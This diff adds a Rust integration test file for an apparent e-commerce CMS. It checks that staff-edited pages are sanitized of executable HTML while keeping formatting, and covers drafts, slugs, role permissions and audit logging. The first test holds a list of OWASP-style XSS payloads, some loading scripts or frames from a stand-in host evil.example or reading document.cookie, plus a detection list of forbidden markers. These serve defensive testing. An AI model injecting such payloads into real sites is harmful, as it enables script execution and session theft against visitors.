@@ -1,0 +1,169 @@
+//! CMS pages over both APIs: what staff save is sanitized, editor formatting survives,
+//! nothing executable does (OWASP XSS cheat-sheet payloads), drafts stay hidden.
+
+use commerce::staff::Role;
+use jangteo_tests::{TestApp, data, staff_session};
+use serde_json::json;
+
+const CREATE: &str =
+    "mutation($i: PageInput!) { pageCreate(input: $i) { page { id slug body published } userErrors { code field } } }";
+
+const PAYLOADS: &[&str] = &[
+    "<script>alert('xss')</script>",
+    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert('XSS');\">",
+    "<img src=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<body onload=alert('XSS')>",
+    "<div style=\"background-image: url(javascript:alert('XSS'))\">bg</div>",
+    "<div style=\"width: expression(alert('XSS'));\">ie</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<object data=\"https://evil.example/x.swf\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<input onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">m</mi></math>",
+    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<p onclick=\"alert(1)\" onmouseover=\"alert(2)\">hover</p>",
+    "\"><script>alert(document.cookie)</script>",
+    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+    "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
+    "<base href=\"javascript:alert(1)//\">",
+    "<link rel=stylesheet href=\"javascript:alert(1)\">",
+];
+
+const FORBIDDEN: &[&str] = &[
+    "<script",
+    "javascript:",
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "ontoggle",
+    "<iframe",
+    "<svg",
+    "<style",
+    "<object",
+    "<embed",
+    "<form",
+    "<meta",
+    "<base",
+    "<link",
+    "<input",
+    "expression(",
+    "data:text/html",
+    "xlink:href",
+    "background=",
+];
+
+#[tokio::test]
+async fn nothing_executable_survives_and_formatting_does() {
+    let app = TestApp::spawn().await;
+    let mgr = staff_session(&app.pool, "mgr@jangteo.kr", Role::Manager).await;
+    for (i, payload) in PAYLOADS.iter().enumerate() {
+        let body = format!("<h2>안내 {i}</h2><p style=\"color: red; position: fixed\">본문</p>{payload}");
+        let r = app
+            .admin(
+                &mgr,
+                CREATE,
+                json!({ "i": { "slug": format!("xss-{i}"), "title": "테스트", "body": body, "published": true } }),
+            )
+            .await;
+        let saved = data(&r)["pageCreate"]["page"]["body"]
+            .as_str()
+            .expect("body")
+            .to_lowercase();
+        for bad in FORBIDDEN {
+            assert!(!saved.contains(bad), "payload {i} left {bad:?}: {saved}");
+        }
+        assert!(
+            saved.contains("<h2>") && saved.contains("style=\"color:red\""),
+            "formatting kept: {saved}"
+        );
+        assert!(!saved.contains("position"), "{saved}");
+        // The storefront serves exactly what was saved.
+        let r = app
+            .gql(
+                "query($s: String!) { page(slug: $s) { body } }",
+                json!({ "s": format!("xss-{i}") }),
+            )
+            .await;
+        assert_eq!(data(&r)["page"]["body"].as_str().map(str::to_lowercase), Some(saved));
+    }
+}
+
+#[tokio::test]
+async fn drafts_slugs_roles_and_updates() {
+    let app = TestApp::spawn().await;
+    let owner = staff_session(&app.pool, "owner@jangteo.kr", Role::Owner).await;
+    let cs = staff_session(&app.pool, "cs@jangteo.kr", Role::Cs).await;
+    let r = app
+        .admin(
+            &owner,
+            CREATE,
+            json!({ "i": { "slug": "shipping", "title": "배송 안내", "body": "<p>준비 중</p>", "published": false } }),
+        )
+        .await;
+    let id = data(&r)["pageCreate"]["page"]["id"].clone();
+    let r = app.gql("{ page(slug: \"shipping\") { title } }", json!({})).await;
+    assert_eq!(r["errors"][0]["extensions"]["code"], "NOT_FOUND", "drafts are hidden");
+    let update = "mutation($id: ID!, $i: PageInput!) { pageUpdate(id: $id, input: $i) { page { published } userErrors { code } } }";
+    let r = app.admin(&owner, update, json!({ "id": id, "i": { "slug": "shipping", "title": "배송 안내", "body": "<p>평일 2시 마감</p>", "published": true } })).await;
+    assert_eq!(data(&r)["pageUpdate"]["page"]["published"], true);
+    let r = app
+        .gql(
+            "{ pages(kind: PAGE) { slug title body } page(slug: \"shipping\") { title body } }",
+            json!({}),
+        )
+        .await;
+    assert_eq!(
+        data(&r)["page"],
+        json!({ "title": "배송 안내", "body": "<p>평일 2시 마감</p>" })
+    );
+    assert_eq!(data(&r)["pages"].as_array().expect("pages").len(), 1);
+    let r = app
+        .admin(
+            &owner,
+            CREATE,
+            json!({ "i": { "slug": "shipping", "title": "x", "body": "", "published": true } }),
+        )
+        .await;
+    assert_eq!(data(&r)["pageCreate"]["userErrors"][0]["code"], "ALREADY_EXISTS");
+    let r = app
+        .admin(
+            &owner,
+            CREATE,
+            json!({ "i": { "slug": "Bad Slug", "title": "x", "body": "", "published": true } }),
+        )
+        .await;
+    assert_eq!(data(&r)["pageCreate"]["userErrors"][0]["field"], json!(["slug"]));
+    let r = app
+        .admin(
+            &cs,
+            CREATE,
+            json!({ "i": { "slug": "cs-page", "title": "x", "body": "", "published": true } }),
+        )
+        .await;
+    assert_eq!(
+        data(&r)["pageCreate"]["userErrors"][0]["code"],
+        "FORBIDDEN",
+        "CS does not edit content"
+    );
+    let del = "mutation($id: ID!) { pageDelete(id: $id) { deletedId userErrors { code } } }";
+    let r = app.admin(&owner, del, json!({ "id": id })).await;
+    assert_eq!(data(&r)["pageDelete"]["deletedId"], id);
+    let actions: Vec<String> =
+        sqlx::query_scalar("SELECT action FROM audit_log WHERE action LIKE 'page.%' ORDER BY id")
+            .fetch_all(&app.pool)
+            .await
+            .expect("audit");
+    assert_eq!(actions, ["page.create", "page.update", "page.delete"]);
+}
